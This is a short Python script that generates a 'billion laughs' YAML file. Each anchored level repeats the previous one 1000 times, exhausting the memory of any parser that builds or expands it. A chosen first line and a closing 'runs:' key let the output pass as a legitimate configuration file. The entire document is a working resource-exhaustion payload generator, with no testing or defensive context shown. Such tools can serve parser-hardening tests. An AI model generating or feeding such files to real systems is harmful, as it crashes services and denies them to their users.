#!/usr/bin/env python3
"""Writes a "billion laughs" YAML file: each level lists the one before it
1000 times, so a reader that builds it as nodes, or expands it, needs far
more memory than any machine has.

usage: alias-bomb.py PATH BYTES FIRST_LINE
FIRST_LINE (e.g. "schema_version: 2") comes first; the file ends with a
`runs:` key that refers to the last level.
"""
import sys

path, size, first = sys.argv[1], int(sys.argv[2]), sys.argv[3]
lines = [first, "l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
written, level = 0, 1
while written < size:
    refs = ", ".join(["*l%d" % (level - 1)] * 1000)
    lines.append("l%d: &l%d [%s]" % (level, level, refs))
    written += len(lines[-1]) + 1
    level += 1
lines.append("runs: [*l%d]" % (level - 1))
with open(path, "w") as out:
    out.write("\n".join(lines) + "\n")
